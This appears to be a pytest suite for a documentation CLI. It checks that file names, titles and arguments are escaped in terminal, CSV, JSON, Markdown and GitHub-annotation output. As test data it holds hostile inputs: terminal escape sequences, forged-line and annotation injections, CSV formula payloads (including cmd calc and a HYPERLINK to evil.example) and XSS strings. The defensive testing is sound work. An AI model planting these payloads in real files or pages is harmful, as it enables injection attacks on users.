"""Output injection (issue 12, class 8): what a proposal holds (its file name, title, people)
never reaches the terminal raw nor forges a line, never becomes a spreadsheet formula, raw
HTML or a script link in Markdown, and JSON stays JSON, in every command and format.

The escaping lives in one module, :mod:`sphinxcontrib_dep.core.escape`; these tests run the
commands (``cli.main``) and judge what they print or write.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest

from sphinxcontrib_dep import cli
from sphinxcontrib_dep.core import escape, report

TODAY = "2026-11-28"

#: Terminal and line payloads (the issue's newline and ESC, then variants of our own).
PAYLOADS = {
    "line feed": "\nFORGED 0009-x.md:1: fake [dep.status]",
    "carriage return": "\rFORGED",
    "CSI erase screen": "\x1b[2J\x1b[1;1H",
    "SGR conceal": "\x1b[8mhidden\x1b[0m",
    "OSC window title": "\x1b]0;pwned\x07",
    "OSC 8 hyperlink": "\x1b]8;;https:evil.example\x1b\\click\x1b]8;;\x1b\\",  # no / in a file name
    "8-bit CSI (C1)": "\x9b2J",
    "NEL (C1 line break)": "\x85FORGED",
    "line separator": "\u2028FORGED",
    "right-to-left override": "\u202eevil.exe",
    "isolates": "\u2066x\u2069",
    "backspace bell delete": "\x08\x07\x7f",
}
#: Payloads that cannot be part of a heading (the parser ends a line there).
LINE_BREAKS = {"line feed", "carriage return", "NEL (C1 line break)", "line separator"}

#: The console's own colour: SGR with the codes of its palette.
OWN_COLOUR = re.compile(r"\x1b\[(?:(?:0|1|2|3[1-6])(?:;(?:0|1|2|3[1-6]))*)?m")


def assert_safe(output: str, *, colour: bool = False) -> None:
    """No character that is not visible (but line ends and tabs), no forged line."""
    text = OWN_COLOUR.sub("", output) if colour else output
    raw = sorted(
        {
            f"U+{ord(char):04X}"
            for char in text
            if not (char.isprintable() or char in "\n\t" or unicodedata.category(char) == "Zs")
        }
    )
    assert raw == [], f"raw control characters in the output: {raw}\n{output!r}"
    forged = [line for line in text.splitlines() if line.lstrip().startswith("FORGED")]
    assert forged == [], f"a forged line: {forged}"


def proposal(title: str, status: str = "Approved", **options: str) -> str:
    lines = [f"# {title}", "", "```{dep-meta}", f":status: {status}"]
    fields = {
        "authors": "@a",
        "category": "Process",
        "sponsor": "@s",
        "required_reviewers": "@r (approved)",
        "review_date": "2026-12-10",
    }
    fields.update(options)
    lines += [f":{name.replace('_', '-')}: {value}" for name, value in fields.items()]
    return "\n".join([*lines, "```", "", "## Summary", "", "Text.", ""])


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main([*argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# --------------------------------------------------------------------------------------
# File names
# --------------------------------------------------------------------------------------

#: Every command that prints file names (or reads the files): what it is run with.
NAMING_COMMANDS: dict[str, list[str]] = {
    "lint": ["lint"],
    "lint --format github": ["lint", "--format", "github"],
    "lint --color always": ["lint", "--color", "always"],
    "index": ["index"],
    "index --color always": ["index", "--color", "always"],
    "report": ["report", "--today", TODAY],
    "status": ["status", "2", "Implemented", "--force"],
    "status --dry-run": ["status", "2", "Implemented", "--force", "--dry-run"],
    "supersede": ["supersede", "--partial", "2", "1"],
    "number": ["number", "draft"],
    "migrate": ["migrate", "deps"],
    "migrate --in-place": ["migrate", "--in-place", "deps"],
    "gate": ["gate", "--text", "DEP-0002"],
    "status of a missing file": ["status", "missing", "Approved"],
}


@pytest.fixture(params=sorted(PAYLOADS))
def named_project(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """deps/ with proposals whose file names carry the payload; the payload's name."""
    payload = PAYLOADS[request.param]
    deps = tmp_path / "proj" / "deps"
    deps.mkdir(parents=True)
    (deps / "0001-ok.md").write_text(proposal("One"))
    (deps / f"0002-x{payload}.md").write_text(proposal("Two", "Bogus"))  # a warning names it
    (deps / f"0000-draft{payload}.md").write_text(proposal("Draft", "In Progress"))
    (deps / f"0003-legacy{payload}.md").write_text("# Legacy\n\n**Status**: Draft\n**Authors**: @a\n")
    monkeypatch.chdir(tmp_path / "proj")
    return str(request.param)


@pytest.mark.parametrize("command", sorted(NAMING_COMMANDS))
def test_file_names_are_escaped_everywhere(
    command: str, named_project: str, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = list(NAMING_COMMANDS[command])
    payload = PAYLOADS[named_project]
    if argv[0] == "number":
        argv[1] = f"deps/0000-draft{payload}.md"
    if argv[:2] == ["status", "missing"]:
        argv[1] = f"deps/0009-missing{payload}.md"
    code, out, err = run(capsys, *argv)
    assert "Traceback" not in err
    assert code in (0, 1, 2)
    assert_safe(out, colour="--color" in argv)
    assert_safe(err)
    shown = escape.text(payload)
    # A proposal whose file name holds a control character is not read (dep lint says so,
    # dep.filename); a command given its path still names it, escaped.
    if command in {"lint", "number", "migrate"}:
        assert shown in out + err, (command, out, err)
    if command == "lint" and not payload.isprintable():
        assert "a file name holding control or invisible characters; it is not read [dep.filename]" in out


def test_lint_text_names_a_file_with_a_line_break_on_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's example, exactly: one diagnostic, one line."""
    (tmp_path / "deps").mkdir()
    (tmp_path / "deps" / "0001-x\nFORGED.md").write_text(proposal("One", "Bogus"))
    monkeypatch.chdir(tmp_path)
    code, out, _ = run(capsys, "lint")
    assert code == 1
    (line,) = out.splitlines()
    assert line == (
        "deps/0001-x\\nFORGED.md:1: a file name holding control or invisible characters; it is not read "
        "[dep.filename]"
    )


def test_github_annotations_stay_one_command_each(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "deps").mkdir()
    name = "0001-a\n::error file=x::forged%0A,line=1:b.md"
    (tmp_path / "deps" / name).write_text(proposal("One", "Bogus\x1b[2J"))
    monkeypatch.chdir(tmp_path)
    code, out, _ = run(capsys, "lint", "--format", "github")
    assert code == 1
    assert_safe(out)
    (line,) = out.splitlines()
    properties, _, message = line[len("::warning ") :].partition("::")
    assert properties == (
        "file=deps/0001-a%0A%3A%3Aerror file=x%3A%3Aforged%250A%2Cline=1%3Ab.md,line=1,title=dep.filename"
    )
    assert "::" not in message


# --------------------------------------------------------------------------------------
# Titles, in every format
# --------------------------------------------------------------------------------------


@pytest.fixture
def titled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "deps").mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path / "deps"


def write_titles(deps: Path, titles: list[str]) -> None:
    for number, title in enumerate(titles, start=1):
        status = "Under Review" if number % 2 else "Approved"  # both sections of the report
        (deps / f"{number:04d}-t.md").write_text(proposal(title, status))


TEXT_FORMATS = [
    ["index"],
    ["index", "--color", "always"],
    ["index", "--by", "status", "--format", "text", "--output", "out.txt"],
    ["export", "--format", "text"],
    ["report", "--today", TODAY],
    ["report", "--today", TODAY, "--color", "always"],
    ["index", "--format", "csv"],
    ["index", "--format", "json"],
    ["index", "--format", "markdown"],
    ["gate", "--text", "DEP-0001 DEP-0002 DEP-0003 DEP-0004 DEP-0005 DEP-0006 DEP-0007 DEP-0008"],
]


@pytest.mark.parametrize("argv", TEXT_FORMATS, ids=" ".join)
def test_titles_reach_no_terminal_raw(
    argv: list[str], titled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    titles = [f"T{payload}" for name, payload in sorted(PAYLOADS.items()) if name not in LINE_BREAKS]
    write_titles(titled, titles)
    code, out, err = run(capsys, *argv)
    assert code in (0, 1) and "Traceback" not in err
    written = Path("out.txt").read_text() if "--output" in argv else ""
    for text in (out, err, written):
        assert_safe(text, colour="--color" in argv)
    shown = out + written
    as_written = {"markdown": escape.markdown, "json": lambda title: ""}.get(argv[-1], escape.text)
    for title in titles:
        assert as_written(title) in shown, (title, shown)


def test_json_stays_json_and_keeps_every_character(titled: Path, capsys: pytest.CaptureFixture[str]) -> None:
    titles = [f"T{payload}" for name, payload in sorted(PAYLOADS.items()) if name not in LINE_BREAKS]
    write_titles(titled, titles)
    for argv in (["index", "--format", "json"], ["export"], ["report", "--format", "json", "--today", TODAY]):
        code, out, _ = run(capsys, *argv)
        assert code == 0
        assert_safe(out)
        data = json.loads(out)
        if argv[0] != "report":
            assert [d["title"] for d in data["deps"]] == titles
    code, out, _ = run(capsys, "lint", "--format", "json")
    assert_safe(out)
    json.loads(out)


CSV_TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # fullwidth equals sign
    "=1\x1b[2J",
    "Plain title",
]


@pytest.mark.parametrize("command", ["index", "export", "report"])
def test_csv_cells_never_start_a_formula(
    command: str, titled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_titles(titled, CSV_TITLES)
    (titled / "0009-people.md").write_text(proposal("People", "Under Review", authors="@a, =cmd, +x"))
    code, out, _ = run(capsys, command, "--format", "csv", "--today", TODAY)
    assert code == 0
    assert_safe(out)
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert cells, out
    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    dangerous = [cell for cell in cells if cell.lstrip(" ").startswith(starts)]
    assert dangerous == []
    titles = {cell for row in rows for cell in row[2:3]}
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in titles or command == "report"
    assert "Plain title" in titles


# --------------------------------------------------------------------------------------
# Markdown: rendered as GitHub renders it, then read back
# --------------------------------------------------------------------------------------

MARKDOWN_TITLES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "a | b | c",
    "`code` and *em* and __strong__ ~~gone~~",
    "&lt;script&gt; and &#x3C;b&#x3E;",
    "back\\slash\\| and \\*",
    "[ref]: javascript:alert(1)",
    "# not a heading",
    "Plain title",
]


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def render(markdown: str) -> _Html:
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(markdown)
    parser = _Html()
    # The word joiners escape.markdown puts after '@', '#' and '://' (no GitHub mention,
    # reference or link) are invisible: the text reads as written without them.
    parser.feed(html.replace("\u2060", ""))
    return parser


ALLOWED_TAGS = {"h2", "p", "table", "thead", "tbody", "tr", "th", "td", "em", "a"}


@pytest.mark.parametrize("command", ["index", "export", "report"])
def test_markdown_passes_no_html_and_no_script_link(
    command: str, titled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_titles(titled, MARKDOWN_TITLES)
    impl = "https://example.com/impl_(x)"
    (titled / "0020-impl.md").write_text(proposal("Implemented one", "Implemented", implementation=impl))
    code, out, _ = run(capsys, command, "--format", "markdown", "--today", TODAY)
    assert code in (0, 1)
    assert_safe(out)
    page = render(out)
    tags = {tag for tag, _ in page.tags}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on")
            if tag == "a":
                assert name == "href" and escape.is_web_url(value or ""), value
    # Each title reads back as written, whole in its cell (a pipe did not split it).
    data = json.loads(run(capsys, "index", "--format", "json")[1])
    written = {dep["title"] for dep in data["deps"]} - {"Implemented one"}
    assert len(written) == len(MARKDOWN_TITLES)
    assert written <= {cell for row in page.rows for cell in row}
    if command == "export":
        links = [dict(attrs)["href"] for tag, attrs in page.tags if tag == "a"]
        assert links == [impl]


def test_markdown_cells_read_back_as_written() -> None:
    """Rendered by a CommonMark reader, every escaped value reads back as itself."""
    table = report.Table("T | <b>x</b>", ["A"], [[title] for title in MARKDOWN_TITLES])
    page = render(report.render_markdown([table]))
    assert [row[0] for row in page.rows[1:]] == MARKDOWN_TITLES
    assert {tag for tag, _ in page.tags} == {"h2", "table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize(
    "url, link",
    [
        ("https://example.com/a_(b)", True),
        ("http://example.com/<x>", True),
        ("javascript:alert(1)", False),
        ("JAVASCRIPT:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("//evil.example/x", False),
        ("https://exa mple.com", False),
        ("https://example.com/\x1b[2J", False),
        ("vbscript:msgbox(1)", False),
    ],
)
def test_only_web_links_are_written_as_links(url: str, link: bool) -> None:
    table = report.Table("T", ["Links"], [[(report.CellLink("label", url),)]])
    page = render(report.render_markdown([table]))
    hrefs = [dict(attrs).get("href") for tag, attrs in page.tags if tag == "a"]
    assert hrefs == ([url.replace("<", "%3C").replace(">", "%3E")] if link else [])
    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS


# --------------------------------------------------------------------------------------
# Messages about arguments
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["lint", "--bogus\x1b]0;pwned\x07"],
        ["\x1b[2Jlint"],
        ["lint", "deps/none\x1b[2J\nFORGED.md"],
        ["status", "deps/0009\x9b2J.md", "Approved"],
        ["status", "1", "Done\x1b[8m"],
        ["export", "--format", "csv", "--output", "exists\x1b[2J\nFORGED"],
        ["gate", "--commits", "a..b\x1b[2J"],
    ],
    ids=repr,
)
def test_arguments_echoed_in_messages_are_escaped(
    argv: list[str], titled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_titles(titled, ["One"])
    if "--output" in argv:
        Path(argv[-1]).write_text("a file of the user's\n")
    code, out, err = run(capsys, *argv)
    assert code in (1, 2) and "Traceback" not in err, err
    assert_safe(out)
    assert_safe(err)


# --------------------------------------------------------------------------------------
# The escaping functions
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_text_escapes_every_payload_and_keeps_the_rest(name: str) -> None:
    value = f"Ünïcödé — DEP‑0001 {PAYLOADS[name]} ok"
    shown = escape.text(value)
    assert_safe(shown)
    assert "\n" not in shown and "\t" not in shown
    assert shown.startswith("Ünïcödé — DEP‑0001 ") and shown.endswith(" ok")


def test_terminal_keeps_only_the_consoles_own_colour() -> None:
    ours = "\x1b[1mbold\x1b[0m \x1b[32mok\x1b[0m"
    assert escape.terminal(ours, keep_colour=True) == ours
    assert escape.terminal(ours) == "\\x1b[1mbold\\x1b[0m \\x1b[32mok\\x1b[0m"
    hostile = "\x1b[8mx\x1b]0;t\x07\x9b2J"
    assert escape.terminal(hostile, keep_colour=True) == "\\x1b[8mx\\x1b]0;t\\x07\\x9b2J"
    assert escape.terminal("a\n\tb") == "a\n\tb"


def test_json_dumps_escapes_what_json_leaves_raw() -> None:
    data = {"t": "a\x7f\x85\u2028\u202e\U000e0001b é"}
    dumped = escape.json_dumps(data, indent=None)
    assert dumped == '{"t": "a\\u007f\\u0085\\u2028\\u202e\\udb40\\udc01b é"}'
    assert json.loads(dumped) == data
